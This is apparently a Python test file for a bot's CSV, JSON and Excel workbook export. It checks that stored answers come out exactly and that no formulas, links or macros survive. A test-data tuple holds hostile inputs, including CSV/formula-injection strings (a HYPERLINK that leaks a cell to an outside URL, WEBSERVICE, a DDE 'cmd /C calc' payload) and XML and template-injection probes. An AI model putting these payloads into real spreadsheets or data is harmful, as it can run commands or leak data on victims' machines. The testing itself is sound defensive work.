"""The workbook opens, holds every answer of the database as what it is, and computes and fetches nothing."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import datetime, timedelta
from typing import Any

import pytest
from openpyxl.utils import get_column_letter

from bot.codesign.rating import Rating
from bot.codesign.story import Story
from bot.exports.cells import exact
from bot.exports.names import Names
from bot.exports.pack.contents import pack_contents
from bot.exports.sheets import Heading, Sheet
from bot.exports.tables import TABLES
from bot.exports.workbook import LongWords, Look, write
from bot.exports.workbook_cells import MOST_LETTERS
from bot.i18n.texts import _
from bot.services.aside import Aside
from bot.services.packs import making
from tests.exports.pack.read_back import in_words, made, opened, parts, rows
from tests.exports.rated import opened as opened_round
from tests.exports.rated import rated
from tests.exports.world import BEGAN, World, text

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"press")',
    '=WEBSERVICE("http://example.org")',
    "+44 20 7946",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r\n=cmd|' /C calc'!A0",
    '<img src="http://example.org/x.png">',
    "</t></is></c></row></sheetData>",
    "&amp; &lt; ]]> <![CDATA[x]]>",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "http://example.org/ mailto:ann@example.org",
    "_x0041_ and _x000D_",
    "'quoted'",
    " space before and after ",
    "00123",
    "1e5",
    "2026-03-02",
    "TRUE",
    "مرحبا\u200f 👩🏽\u200d⚕️ हिन्दी ٹڑ",
    "line\nbreak\r\nand\rreturn",
)


async def pack_of(world: World, kind: Any = "team", language: str = "en") -> dict[str, bytes]:
    pack = await making.make(world.house, world.project_id, kind, language)
    return await made(pack_contents(world.house, pack))


def csv_rows(content: bytes) -> list[dict[str, str]]:
    found = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [{name: exact(cell) for name, cell in row.items()} for row in found]


def written(world: World, sheet: Sheet, language: str = "en") -> bytes:
    """A workbook with one sheet."""
    file = io.BytesIO()
    names = Names(world.house.translator, language)
    look = Look(_("Workbook"), "TEAM & ONLY", BEGAN, ())
    write([sheet], look, names, Aside(world.house.blobs.spool(), LongWords), file)
    return file.getvalue()


def words_sheet(*words: str) -> Sheet:
    return Sheet(
        "words",
        _("One row for each story."),
        (Heading("at", _("Its number."), "number"), Heading("words", _("What it says."), "words")),
        lambda: ([at, each] for at, each in enumerate(words)),
    )


async def test_csv_json_and_workbook_hold_every_answer_of_the_database(world: World) -> None:
    """Told on every table that people fill, with words that try to be something else."""
    round_ = await opened_round(world)
    points = [point.id for point in world.project.touchpoints]
    told: dict[int, str] = {}
    given: list[tuple[str, str, int | None, str]] = []
    for at, words in enumerate(HOSTILE):
        who = await world.person(("patient", "carer", "staff")[at % 3])
        point = points[at % len(points)]
        told[await world.tell(who, Story(point, (text(words),), uses=("team",)))] = words
        position: Any = (-2, -1, 0, 1, 2, None)[at % 6]
        await rated(world, round_, who, Rating(point, position, ("calm",), (text(words),)))
        given.append((point, words, position, f"{who.place.role} {who.place.number}"))
    files = await pack_of(world)
    book = opened(files["workbook.xlsx"])
    exported = json.loads(files["data/tables.json"])["tables"]
    for table in (
        rows(book, "stories"),
        csv_rows(files["data/stories.csv"]),
        exported["stories"]["rows"],
    ):
        assert {int(row["story"]): row["words"] for row in table} == told
    for table in (rows(book, "ratings"), csv_rows(files["data/ratings.csv"]), exported["ratings"]["rows"]):
        found = sorted((row["touchpoint"], row["why"], in_words(row["position"])) for row in table)
        assert found == sorted((point, words, in_words(position)) for point, words, position, _who in given)
    stories = json.loads(files["data/stories.json"])["stories"]
    assert {each["story"]: each["parts"][0]["words"] for each in stories} == told


async def test_every_table_is_the_same_in_each_kind_of_file(world: World) -> None:
    for at in range(3):
        who = await world.person(language="cy")
        await world.tell(who, Story(None, (text(f"story {at}"), text("and more", 2)), ("calm", "alone")))
    files = await pack_of(world)
    book, exported = opened(files["workbook.xlsx"]), json.loads(files["data/tables.json"])["tables"]
    for table in TABLES:
        name = table.file.removesuffix(".csv")
        as_csv = csv_rows(files[f"data/{table.file}"])
        in_book = [{key: in_words(cell) for key, cell in row.items()} for row in rows(book, name)]
        in_json = [{key: in_words(cell) for key, cell in row.items()} for row in exported[name]["rows"]]
        assert in_book == as_csv
        assert in_json == as_csv
    assert len(rows(book, "parts")) == 6


async def test_cells_are_of_the_kind_that_their_column_holds(world: World) -> None:
    world.clock.turn(timedelta(days=61))  # into the summer, when London is an hour ahead of the database
    await world.tell(await world.person(), Story(None, (text("2026-03-02"),)))
    book = opened((await pack_of(world))["workbook.xlsx"])
    (story,) = rows(book, "stories")
    assert story["story"] == 1
    assert story["told_at"] == datetime(2026, 5, 2, 15, 5)  # noqa: DTZ001 - cells have no zone
    assert story["reply_due"] == datetime(2026, 5, 16)  # noqa: DTZ001
    assert (story["words"], story["quote_workshop"]) == ("2026-03-02", "no")
    page = book["stories"]
    formats = {head.value: cell.number_format for head, cell in zip(page[1], page[2], strict=True)}
    assert (formats["told_at"], formats["reply_due"]) == ("yyyy-mm-dd hh:mm", "yyyy-mm-dd")


def test_nothing_in_a_workbook_is_computed_or_fetched(world: World) -> None:
    content = written(world, words_sheet(*HOSTILE))
    for name, xml in parts(content):
        assert not re.search(r"<f[ >]|<hyperlink|externalLink|<img|macro", xml), name
        targets = re.findall(r'Target="([^"]+)"', xml)
        assert not [each for each in targets if ":" in each], name
    book = opened(content)
    assert [cell.data_type for cell in book["words"]["B"][1:]] == ["s"] * len(HOSTILE)
    assert [row["words"] for row in rows(book, "words")] == list(HOSTILE)


def test_a_sign_that_no_workbook_holds_is_shown_by_its_code(world: World) -> None:
    content = written(world, words_sheet("a\x00b\x07c\x1bd\x7fe\ufffef", "\ud800 half"))
    assert [row["words"] for row in rows(opened(content), "words")] == [
        "a[U+0000]b[U+0007]c[U+001B]d[U+007F]e[U+FFFE]f",
        "[U+D800] half",
    ]


@pytest.mark.parametrize("letter", ["x", "😀", "é", "\n"])
@pytest.mark.parametrize("length", [16_000, MOST_LETTERS, MOST_LETTERS + 1, 40_000, 100_001])
def test_the_longest_words_are_whole(world: World, letter: str, length: int) -> None:
    words = "begin " + letter * (length - 6)
    book = opened(written(world, words_sheet("short", words, "after")))
    assert [row["words"] for row in rows(book, "words")] == ["short", words, "after"]
    for page in book:
        for cell in page["B"] if page.title == "words" else page["E"] if page.title == "long-words" else ():
            assert len(str(cell.value).encode("utf-16-le")) // 2 <= MOST_LETTERS
    long = len(words.encode("utf-16-le")) // 2 > MOST_LETTERS
    assert (str(book["words"]["B3"].value).endswith("[It goes on in the sheet “long-words”, row 2.]")) == long


def test_what_becomes_too_long_by_its_codes_is_whole_too(world: World) -> None:
    book = opened(written(world, words_sheet("\x07" * 10_000)))
    assert [row["words"] for row in rows(book, "words")] == ["[U+0007]" * 10_000]
    assert len(str(book["words"]["B2"].value)) <= MOST_LETTERS


async def test_sheets_can_be_filtered_and_keep_their_headings(world: World) -> None:
    for _at in range(3):
        await world.tell(await world.person(), Story(None, (text("words"),)))
    book = opened((await pack_of(world))["workbook.xlsx"])
    names = [table.file.removesuffix(".csv") for table in TABLES]
    assert book.sheetnames == [*names, "codebook", "long-words"]
    for page in book:
        assert page.freeze_panes == "A2"
        assert page.print_title_rows == "$1:$1"
        assert page["A1"].font.bold
        assert page.auto_filter.ref == f"A1:{get_column_letter(page.max_column)}{max(page.max_row, 2)}"
        assert not page.sheet_view.rightToLeft
        assert "TEAM ONLY" in str(page.oddHeader)
    assert book["stories"].auto_filter.ref == "A1:U4"
    assert book["stories"]["H2"].alignment.wrap_text
    assert 20 < book["stories"].column_dimensions["H"].width <= 100


async def test_sheets_run_from_right_to_left_where_the_language_does(world: World) -> None:
    book = opened((await pack_of(world, language="ar"))["workbook.xlsx"])
    assert all(page.sheet_view.rightToLeft for page in book)


async def test_the_codebook_explains_every_column(world: World) -> None:
    book = opened((await pack_of(world))["workbook.xlsx"])
    explained = {(row["sheet"], row["column"]): row for row in rows(book, "codebook") if row["column"]}
    there = {
        (page.title, cell.value)
        for page in book
        if page.title != "codebook"
        for cell in page[1]
        if cell.value
    }
    assert set(explained) == there
    assert all(row["meaning"] and row["holds"] for row in explained.values())
    assert explained["stories", "told_at"]["holds"] == "day and time"


async def test_nobody_is_named_in_the_properties(world: World) -> None:
    await world.tell(await world.person(), Story(None, (text("words"),)))
    properties = opened((await pack_of(world))["workbook.xlsx"]).properties
    assert (properties.creator or "", properties.lastModifiedBy or "") == ("", "")
    assert properties.title == "Pack 1, Monday, 2 March 2026"
    assert properties.created == BEGAN.replace(tzinfo=None)
    said = " ".join(str(value) for value in vars(properties).values())
    assert world.project.title["en"] not in said


def test_a_sheet_with_too_many_rows_says_where_the_others_are(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.exports.workbook.MOST_ROWS", 4)
    page = opened(written(world, words_sheet("1", "2", "3", "4")))["words"]
    assert page.max_row == 4
    assert page["A4"].value == "A sheet holds no more rows. All of them are in words.csv."
